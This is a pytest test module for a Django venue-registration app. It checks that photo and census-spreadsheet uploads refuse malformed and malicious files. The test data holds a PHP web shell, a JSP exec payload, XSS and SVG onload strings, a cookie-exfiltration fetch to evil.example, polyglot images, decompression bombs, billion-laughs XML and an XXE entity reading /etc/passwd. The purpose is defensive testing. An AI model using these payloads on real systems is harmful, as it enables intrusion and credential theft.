"""Malformed, disguised and malicious uploads, through both real upload paths: an owner's
photo step of the online registration and the back office's "add a photo" on a venue's page.
Every one is refused with its reason beside the file field, no server error, and nothing is
stored anywhere (no record, no file in private or public media, no upload left behind). Real
photos from phones, however odd, are kept: re-encoded by us as a JPEG of at most 1600 px with
no metadata, under a name of ours, shown only through the access-checked view. Also the
census import's refusals of files that are not census sheets. Every file is made here."""

import html
import io
import os
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from types import SimpleNamespace

from django import forms
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.html import escape
from django.utils.translation import gettext as _

from wagtail.images import get_image_model

import pillow_heif
import pytest
from openpyxl import Workbook
from PIL import Image, ImageCms, PngImagePlugin

from tests.factories import (
    UserFactory,
    make_area_tree,
    make_home,
    make_registration_page,
    make_staff,
    make_venue,
)
from venues import photos
from venues.models import ImportBatch, Venue, VenuePhoto

pytestmark = pytest.mark.django_db

BASE = "/services/register/"
EMPTY = forms.FileField.default_error_messages["empty"]


# Files made here ------------------------------------------------------------------------------

def picture(fmt="JPEG", size=(320, 240), mode="RGB", colour=(200, 40, 40), **options):
    buffer = io.BytesIO()
    Image.new(mode, size, colour).save(buffer, fmt, **options)
    return buffer.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_by_hand(width, height, depth=8, colour_type=2, rows=None):
    """A PNG written chunk by chunk, so its header can claim any size: a decompression bomb's
    header costs a few bytes, whatever the size it claims."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    rows = rows if rows is not None else b"\0" * 1000
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(rows))
            + png_chunk(b"IEND", b""))


def png_with_broken(kind, how):
    """A good PNG with one chunk damaged: its "checksum", or its "data" (with a checksum
    that matches the damaged data)."""
    data = picture("PNG")
    start = data.index(kind) - 4
    length = struct.unpack(">I", data[start:start + 4])[0]
    body_end = start + 8 + length
    if how == "checksum":
        return data[:body_end] + b"\0\0\0\0" + data[body_end + 4:]
    return data[:start] + png_chunk(kind, random.Random(6).randbytes(length)) + data[body_end + 4:]


def jpeg_sized(width, height):
    """A small JPEG whose frame header (SOF0) claims ``width`` x ``height``."""
    data = picture()
    sof = data.index(b"\xff\xc0")
    return data[:sof + 5] + struct.pack(">HH", height, width) + data[sof + 9:]


def psd(width=200, height=150):
    """A plain RGB Photoshop file, which Pillow could decode; we never ask it to."""
    head = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    return head + struct.pack(">III", 0, 0, 0) + struct.pack(">H", 0) + b"\x80" * (width * height * 3)


def zip_of(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def animated_gif():
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (200, 150), colour) for colour in ("red", "blue", "green")]
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return buffer.getvalue()


def heic(size=(320, 240)):
    return picture("HEIF", size=size, colour=(30, 90, 200))


# pillow-heif's wheels bring an HEVC encoder; a build without one cannot make the HEIC cases.
NEEDS_HEIC_ENCODER = pytest.mark.skipif(not pillow_heif.libheif_info().get("HEIF"),
                                        reason="this pillow-heif cannot encode HEIC files to upload")


def xmp(extra=""):
    return ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
            'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
            'xmlns:exif="http://ns.adobe.com/exif/1.0/" '
            'xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" '
            f'exif:GPSLatitude="29,33.0N" exif:GPSLongitude="107,45.0E" GCamera:MotionPhoto="1">{extra}'
            '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>').encode()


def exif(**tags):
    data = Image.Exif()
    data[0x010F] = "PhoneMaker"
    data[0x8825] = {1: "N", 2: (29.0, 33.0, 0.0), 3: "E", 4: (107.0, 45.0, 0.0)}  # where it was taken
    for tag, value in tags.items():
        data[int(tag[1:], 16)] = value
    return data


def phone_photo(size=(3000, 2000)):
    """What a phone saves: EXIF with the GPS position, XMP, a colour profile and a comment."""
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return picture(size=size, exif=exif(), xmp=xmp(), icc_profile=icc, comment=b"Shot on a phone")


def motion_photo():
    """A Google/Samsung motion photo: the picture, then a short MP4 video appended to it."""
    video = random.Random(7).randbytes(300_000)
    mp4 = (struct.pack(">I", 24) + b"ftypmp42" + b"\0\0\0\0mp42isom"
           + struct.pack(">I", 8 + len(video)) + b"mdat" + video)
    return picture(size=(640, 480), xmp=xmp()) + mp4


def sixteen_bit_rgb_png(width=160, height=120):
    row = b"\0" + struct.pack(">HHH", 0x8000, 0x4000, 0x2000) * width
    return png_by_hand(width, height, depth=16, colour_type=2, rows=row * height)


def transparent_palette_png():
    image = Image.new("P", (200, 150), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    image.paste(1, (0, 0, 100, 150))  # the left half red, the right half transparent
    buffer = io.BytesIO()
    image.save(buffer, "PNG", transparency=0)
    return buffer.getvalue()


def png_with_text(key, text):
    info = PngImagePlugin.PngInfo()
    info.add_text(key, text)
    return picture("PNG", pnginfo=info)


@dataclass
class Case:
    name: str
    content: object  # bytes, or a function making them (large files, HEIC)

    def upload(self):
        content = self.content() if callable(self.content) else self.content
        return SimpleUploadedFile(self.name, content, content_type="image/jpeg")


def cases(table):
    return [pytest.param(case, id=name, marks=[NEEDS_HEIC_ENCODER] if "heic" in name else [])
            for name, case in table.items()]


# The refused ------------------------------------------------------------------------------------

@dataclass
class Refused(Case):
    message: object
    params: dict = field(default_factory=dict)

    def expected(self):
        message = str(self.message)  # lazy: in the language of the page
        return message % self.params if self.params else message


NOT_A_PHOTO, DOCUMENT, HIDDEN = photos.NOT_A_PHOTO, photos.A_DOCUMENT, photos.HIDDEN_CONTENT
PIXELS = {"millions": photos.MAX_PIXELS // 1_000_000}
SIDE = {"pixels": photos.MIN_SIDE}
PHP = b"<?php echo shell_exec($_GET['cmd']); ?>"
JSP = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
JAR = zip_of({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "Evil.class": b"\xca\xfe\xba\xbe"})

REFUSED = {
    # Not pictures at all, whatever their names say.
    "php-script-named-jpg": Refused("shell.jpg", PHP, NOT_A_PHOTO),
    "html-page-named-jpg": Refused("photo.jpg", b"<!doctype html><html><body><script>alert(1)</script>"
                                                b"</body></html>", NOT_A_PHOTO),
    "svg-with-script": Refused("image.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
                                            b"<script>alert(document.cookie)</script></svg>", NOT_A_PHOTO),
    "svg-named-png": Refused("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
                                         b'width="200" height="200"><rect width="200" height="200"/></svg>',
                             NOT_A_PHOTO),
    "windows-program-named-jpg": Refused("photo.jpg", b"MZ\x90\0\x03" + b"\0" * 59
                                         + b"This program cannot be run in DOS mode.\r\r\n$", NOT_A_PHOTO),
    "linux-program-named-jpg": Refused("photo.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 120, NOT_A_PHOTO),
    "postscript-named-jpg": Refused("photo.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n"
                                                 b"(x) run\n", NOT_A_PHOTO),
    "one-byte": Refused("photo.jpg", b"\xff", NOT_A_PHOTO),
    # Pictures in formats that are not photos from a phone (GIF is left out on purpose).
    "gif": Refused("photo.gif", picture("GIF"), NOT_A_PHOTO),
    "animated-gif": Refused("moving.gif", animated_gif(), NOT_A_PHOTO),
    "tiff": Refused("scan.tif", picture("TIFF"), NOT_A_PHOTO),
    "bmp": Refused("photo.bmp", picture("BMP"), NOT_A_PHOTO),
    "ico": Refused("favicon.ico", picture("ICO", size=(128, 128)), NOT_A_PHOTO),
    "photoshop-named-jpg": Refused("photo.jpg", psd(), NOT_A_PHOTO),
    "gif-with-zip-after-it": Refused("gifar.jpg", picture("GIF") + zip_of({"a.class": b"\xca\xfe"}),
                                     NOT_A_PHOTO),
    # Documents people may send instead of a photo of a paper.
    "pdf-named-jpg": Refused("licence.jpg", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
                             DOCUMENT),
    "word-docx": Refused("licence.docx", zip_of({"[Content_Types].xml": "<Types/>",
                                                 "word/document.xml": "<w:document/>"}), DOCUMENT),
    "old-word-doc": Refused("licence.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, DOCUMENT),
    # Damaged photos.
    "empty-file": Refused("photo.jpg", b"", EMPTY),
    "jpeg-header-only": Refused("photo.jpg", picture()[:20], NOT_A_PHOTO),
    "truncated-jpeg": Refused("photo.jpg", picture()[:400], NOT_A_PHOTO),
    "truncated-png": Refused("photo.png", picture("PNG")[:-40], NOT_A_PHOTO),
    "png-bad-header-checksum": Refused("photo.png", png_with_broken(b"IHDR", "checksum"), NOT_A_PHOTO),
    "png-bad-pixel-checksum": Refused("photo.png", png_with_broken(b"IDAT", "checksum"), NOT_A_PHOTO),
    "png-garbage-pixels": Refused("photo.png", png_with_broken(b"IDAT", "data"), NOT_A_PHOTO),
    "png-zero-width": Refused("photo.png", png_by_hand(0, 200), NOT_A_PHOTO),
    "jpeg-zero-height": Refused("photo.jpg", jpeg_sized(320, 0), NOT_A_PHOTO),
    "webp-garbage": Refused("photo.webp", picture("WEBP")[:30] + random.Random(3).randbytes(2000),
                            NOT_A_PHOTO),
    "truncated-heic": Refused("IMG_0001.HEIC", lambda: heic()[:300], NOT_A_PHOTO),
    # Too big: decompression bombs (headers made by hand) and large files.
    "png-bomb-100000x100000": Refused("bomb.png", png_by_hand(100_000, 100_000), photos.TOO_MANY_PIXELS,
                                      PIXELS),
    "png-bomb-just-over-our-limit": Refused("bomb.png", png_by_hand(7072, 7072), photos.TOO_MANY_PIXELS,
                                            PIXELS),
    "png-bomb-real-1-bit": Refused("bomb.png", lambda: picture("PNG", size=(12_000, 12_000), mode="1",
                                                               colour=0), photos.TOO_MANY_PIXELS, PIXELS),
    "jpeg-bomb-65000x65000": Refused("bomb.jpg", jpeg_sized(65_000, 65_000), photos.TOO_MANY_PIXELS, PIXELS),
    "over-15-mb": Refused("huge.jpg", lambda: picture() + b"\0" * photos.MAX_UPLOAD_BYTES, photos.TOO_LARGE),
    # Too small to show anything.
    "one-by-one": Refused("dot.png", picture("PNG", size=(1, 1)), photos.TOO_SMALL, SIDE),
    "99-pixel-strip": Refused("strip.jpg", picture(size=(800, 99)), photos.TOO_SMALL, SIDE),
    # Polyglots: real pictures that are also a script, a web page or an archive.
    "jpeg-then-php": Refused("photo.jpg", picture() + PHP, HIDDEN),
    "jpeg-php-in-comment": Refused("photo.jpg", picture(comment=PHP), HIDDEN),
    "jpeg-svg-in-exif": Refused("photo.jpg", picture(exif=exif(x010E="<svg onload=alert(document.domain)>")),
                                HIDDEN),
    "jpeg-script-in-xmp": Refused("photo.jpg", picture(xmp=xmp(
        "<script>fetch('//evil.example/'+document.cookie)</script>")), HIDDEN),
    "jpeg-then-upper-case-html": Refused("photo.jpg",
                                         picture() + b"<!DOCTYPE HTML><HTML><BODY ONLOAD=alert(1)>", HIDDEN),
    "jpeg-then-server-page": Refused("photo.jpg", picture() + JSP, HIDDEN),
    "jpeg-then-zip": Refused("photo.jpg", picture() + JAR, HIDDEN),
    "png-script-in-text-chunk": Refused("photo.png", png_with_text(
        "Comment", "<script src=//evil.example/x.js></script>"), HIDDEN),
    "png-then-html": Refused("photo.png", picture("PNG") + b"<html><body onload=alert(1)>hi</body></html>",
                             HIDDEN),
    "javascript-url-in-png": Refused("photo.png", png_with_text("URL", "javascript:alert(document.cookie)"),
                                     HIDDEN),
}


# The accepted ---------------------------------------------------------------------------------

@dataclass
class Accepted(Case):
    size: tuple  # of the stored photo
    colour: tuple = None  # (x, y, (r, g, b)) expected in the stored photo, give or take JPEG's losses


ACCEPTED = {
    "phone-photo-with-gps-xmp-profile-comment": Accepted("IMG_20240501.jpg", phone_photo(), (1600, 1067)),
    "png-named-jpg": Accepted("photo.jpg", picture("PNG", size=(300, 200)), (300, 200)),
    "rotated-by-exif": Accepted("photo.jpg", picture(size=(300, 200), exif=exif(x0112=6)), (200, 300)),
    "cmyk-jpeg": Accepted("scan.jpg", picture(mode="CMYK", colour=(0, 255, 255, 0)), (320, 240),
                          (10, 10, (255, 0, 0))),
    "16-bit-grey-png": Accepted("grey.png", picture("PNG", size=(200, 150), mode="I;16", colour=0x8000),
                                (200, 150), (10, 10, (128, 128, 128))),
    "16-bit-colour-png": Accepted("deep.png", sixteen_bit_rgb_png(), (160, 120), (10, 10, (128, 64, 32))),
    "palette-png-with-transparency": Accepted("logo.png", transparent_palette_png(), (200, 150),
                                              (150, 75, (255, 255, 255))),
    "heic-from-an-iphone": Accepted("IMG_0001.HEIC", heic, (320, 240)),
    "webp": Accepted("photo.webp", picture("WEBP"), (320, 240)),
    "multi-picture-jpeg": Accepted("photo.jpg", picture(save_all=True, append_images=[
        Image.new("RGB", (320, 240), "green")], fmt="MPO"), (320, 240)),
    "motion-photo-with-video-after-it": Accepted("MVIMG_0001.jpg", motion_photo(), (640, 480)),
    "damaged-exif": Accepted("photo.jpg", picture()[:2] + b"\xff\xe1" + struct.pack(">H", 38) + b"Exif\0\0"
                             + b"MM\0\x2a\0\0\0\x08\0\x05" + b"\xff" * 20 + picture()[2:], (320, 240)),
    "smallest-accepted": Accepted("narrow.jpg", picture(size=(800, 100)), (800, 100)),
    "path-in-the-name": Accepted("../../../etc/passwd.jpg", picture(), (320, 240)),
    "long-chinese-name": Accepted("双河镇青杠村" * 60 + ".jpg", picture(), (320, 240)),
    "control-characters-in-the-name": Accepted("a\x00b\r\n.php\x00.jpg", picture(), (320, 240)),
}


# The two ways in ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def people(django_db_setup, django_db_blocker):
    """The places and people of every test here, made once, like Django's setUpTestData: in a
    transaction rolled back when the module is done; each test's own changes roll back to a
    savepoint within it."""
    with django_db_blocker.unblock(), transaction.atomic():
        tree = make_area_tree()
        make_registration_page(make_home())
        owner = UserFactory(mobile="13900002222")
        yield SimpleNamespace(
            owner=owner,
            owner_venue=make_venue(tree["qinggang-1"], owner=owner, draft_step=3),
            staff=make_staff(tree["qinggang"], permissions=("access_admin", "view_venue", "add_venue")),
            staff_venue=make_venue(tree["qinggang-1"], status="approved"),
            outsiders=[UserFactory(mobile="13900003333"), make_staff(tree["mugen"])],
            importer=make_staff(tree["town"], permissions=("access_admin", "view_venue", "add_venue")),
        )
        transaction.set_rollback(True)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    """Public media and unfinished uploads in folders of this test's own, to be walked."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "uploads"
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()


def files_under(*roots):
    return [os.path.join(folder, name)
            for top in roots for folder, _dirs, names in os.walk(top) for name in names]


def error_text(page, element_id):
    found = re.search(rf'\sid="{element_id}"[^>]*>(.*?)</', page, re.DOTALL)
    return html.unescape(found.group(1)).strip() if found else None


class OwnerPath:
    """The owner's photo step of their draft registration."""

    def __init__(self, client, people):
        self.client, self.user, self.venue = client, people.owner, people.owner_venue
        self.url = f"{BASE}{self.venue.pk}/photos/"

    def send(self, upload):
        return self.client.post(self.url, {"action": "upload", "kind": "licence", "file": upload})

    def error_beside_field(self, page):
        return error_text(page, "photo-licence-error")

    def kept_what_was_chosen(self, page):
        return 'class="reg-photos reg-has-error" aria-labelledby="photos-licence"' in page

    def accepted(self, response):
        return response.status_code == 302 and response["Location"] == self.url


class StaffPath:
    """"Add a photo" on a venue's page in the back office."""

    def __init__(self, client, people):
        self.client, self.user, self.venue = client, people.staff, people.staff_venue
        self.url = f"/admin/venues/venue/{self.venue.pk}/photos/"

    def send(self, upload):
        return self.client.post(self.url, {"kind": "licence", "file": upload})

    def error_beside_field(self, page):
        return error_text(page, "id_file_error") if 'aria-describedby="id_file_error"' in page else None

    def kept_what_was_chosen(self, page):
        return '<option value="licence" selected>' in page

    def accepted(self, response):
        inspect = f"/admin/venues/venue/inspect/{self.venue.pk}/"
        return response.status_code == 302 and response["Location"] == inspect


@pytest.fixture(params=["owner", "staff"])
def way_in(request, client, people):
    path = {"owner": OwnerPath, "staff": StaffPath}[request.param](client, people)
    client.force_login(path.user)
    return path


# Refused: the reason beside the field, nothing stored ----------------------------------------------

@pytest.mark.parametrize("case", cases(REFUSED))
def test_a_bad_file_is_refused_beside_the_field_and_nothing_is_stored(way_in, case):
    response = way_in.send(case.upload())
    page = response.content.decode()
    assert response.status_code == 200
    assert way_in.error_beside_field(page) == case.expected()
    assert way_in.kept_what_was_chosen(page)
    assert not VenuePhoto.objects.exists()
    assert files_under(settings.PRIVATE_MEDIA_ROOT, settings.MEDIA_ROOT, settings.FILE_UPLOAD_TEMP_DIR) == []


def test_several_files_at_once_are_refused_even_if_one_is_good(way_in):
    for order in ((picture(), PHP), (PHP, picture())):
        response = way_in.send([SimpleUploadedFile(f"{n}.jpg", content) for n, content in enumerate(order)])
        assert response.status_code == 200
        assert way_in.error_beside_field(response.content.decode()) == _("Please upload one photo at a time.")
    assert not VenuePhoto.objects.exists() and files_under(settings.PRIVATE_MEDIA_ROOT) == []


def test_a_refused_file_leaves_the_photos_already_there_as_they_were(way_in):
    assert way_in.accepted(way_in.send(SimpleUploadedFile("good.jpg", picture())))
    kept = VenuePhoto.objects.get()
    stored = files_under(settings.PRIVATE_MEDIA_ROOT)
    response = way_in.send(REFUSED["jpeg-then-php"].upload())
    assert f"/owner/photos/{kept.pk}/" in response.content.decode()
    assert list(VenuePhoto.objects.all()) == [kept] and files_under(settings.PRIVATE_MEDIA_ROOT) == stored


# Accepted: re-encoded, without metadata, named by us, private -----------------------------------

JPEG_MARKERS_OF_OURS = {0xE0, 0xDB, 0xC0, 0xC4, 0xDA}  # JFIF, tables, frame, Huffman, scan


def jpeg_markers(data):
    """The markers of a JPEG's segments before its pixel data (APPn hold metadata, COM comments)."""
    markers, position = [], 2
    while data[position] == 0xFF and data[position + 1] != 0xDA:
        markers.append(data[position + 1])
        position += 2 + int.from_bytes(data[position + 2:position + 4], "big")
    return [*markers, data[position + 1]]


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data:UserWarning")  # the damaged-exif case, as meant
@pytest.mark.parametrize("case", cases(ACCEPTED))
def test_a_photo_is_stored_as_our_own_clean_jpeg(way_in, case, people):
    assert way_in.accepted(way_in.send(case.upload()))
    photo = VenuePhoto.objects.get(venue=way_in.venue)
    assert re.fullmatch(rf"venues/{way_in.venue.pk}/[0-9a-f]{{32}}\.jpg", photo.file.name)
    assert files_under(settings.PRIVATE_MEDIA_ROOT) == [photo.file.path]
    assert files_under(settings.MEDIA_ROOT, settings.FILE_UPLOAD_TEMP_DIR) == []
    with open(photo.file.path, "rb") as stored:
        data = stored.read()
    assert set(jpeg_markers(data)) <= JPEG_MARKERS_OF_OURS and data.endswith(b"\xff\xd9")
    for trace in (b"Exif", b"PhoneMaker", b"xmpmeta", b"ICC_PROFILE", b"Shot on a phone", b"ftyp"):
        assert trace not in data
    with Image.open(io.BytesIO(data)) as stored:
        assert stored.format == "JPEG" and stored.mode == "RGB" and max(stored.size) <= photos.LONG_SIDE
        assert stored.size == case.size == (photo.width, photo.height)
        assert not stored.getexif() and not stored.info.get("icc_profile") and "comment" not in stored.info
        if case.colour:
            x, y, colour = case.colour
            assert all(abs(a - b) <= 12 for a, b in zip(stored.getpixel((x, y)), colour, strict=True))

    # Shown only through the view that checks who may see the venue.
    url = f"/owner/photos/{photo.pk}/"
    response = way_in.client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert b"".join(response.streaming_content) == data
    for outsider in people.outsiders:
        way_in.client.force_login(outsider)
        assert way_in.client.get(url).status_code == 404
    way_in.client.logout()
    assert way_in.client.get(url).status_code == 404
    assert way_in.client.get(settings.MEDIA_URL + photo.file.name).status_code == 404
    with pytest.raises(ValueError):
        photo.file.url  # noqa: B018 - private storage has no public address
    assert not get_image_model().objects.exists()


# The census import ------------------------------------------------------------------------------

def xlsx_bytes():
    workbook = Workbook()
    workbook.active.append(["场所名称", "地址"])
    workbook.active.append(["青杠副食店", "青杠村1组"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_sheet(sheet_xml):
    """A real .xlsx whose first sheet is replaced by ``sheet_xml``."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    return zip_of({name: sheet_xml if name == "xl/worksheets/sheet1.xml" else source.read(name)
                   for name in source.namelist()})


def with_declared_size(data, member, size):
    """The zip ``data`` with ``member``'s uncompressed size in its headers changed to ``size``."""
    data = bytearray(data)
    name = member.encode()
    local = data.index(b"PK\x03\x04")
    while data[local + 30:local + 30 + len(name)] != name:
        local = data.index(b"PK\x03\x04", local + 4)
    central = data.index(b"PK\x01\x02")
    while data[central + 46:central + 46 + len(name)] != name:
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, local + 22, size)
    struct.pack_into("<I", data, central + 24, size)
    return bytes(data)


SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         "<sheetData>{}</sheetData></worksheet>")
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
          + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
          + "]>" + SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
                                '<c r="B1" t="inlineStr"><is><t>x</t></is></c></row>'))
XXE = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
       + SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c>'
                      '<c r="B1" t="inlineStr"><is><t>x</t></is></c></row>'))
BIG_SHEET = SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>' * 20_000)

CENSUS_REFUSED = {
    "jpeg-renamed-xlsx": ("census.xlsx", lambda: picture(), "not_xlsx"),
    "csv-named-xlsx": ("census.xlsx", lambda: "场所名称,地址\n青杠副食店,青杠村1组\n".encode(), "not_xlsx"),
    "empty-file": ("census.xlsx", lambda: b"", "empty"),
    "over-5-mb": ("census.xlsx", lambda: xlsx_bytes() + b"\0" * (5 * 1024 * 1024), "too_large"),
    "member-declaring-2-gb": ("census.xlsx", lambda: with_declared_size(
        xlsx_bytes(), "xl/worksheets/sheet1.xml", 2_000_000_000), "too_large"),
    "member-larger-than-it-declares": ("census.xlsx", lambda: with_declared_size(
        xlsx_with_sheet(BIG_SHEET), "xl/worksheets/sheet1.xml", 1000), "corrupt"),
    "billion-laughs": ("census.xlsx", lambda: xlsx_with_sheet(LAUGHS), "corrupt"),
    "external-entity": ("census.xlsx", lambda: xlsx_with_sheet(XXE), "corrupt"),
}


@pytest.mark.parametrize("name, content, code", CENSUS_REFUSED.values(), ids=CENSUS_REFUSED.keys())
def test_a_file_that_is_not_a_census_sheet_is_refused_and_nothing_imported(client, people, name, content,
                                                                          code):
    client.force_login(people.importer)
    response = client.post(reverse("venues_import"), {"file": SimpleUploadedFile(name, content())})
    assert response.status_code == 200
    errors = response.context["form"].errors.as_data()["file"]
    assert [error.code for error in errors] == [code]
    assert escape(errors[0].messages[0]) in response.content.decode()
    assert "root:" not in response.content.decode()
    assert not ImportBatch.objects.exists() and Venue.objects.count() == 2  # the two made for these tests
    assert files_under(settings.PRIVATE_MEDIA_ROOT, settings.MEDIA_ROOT, settings.FILE_UPLOAD_TEMP_DIR) == []
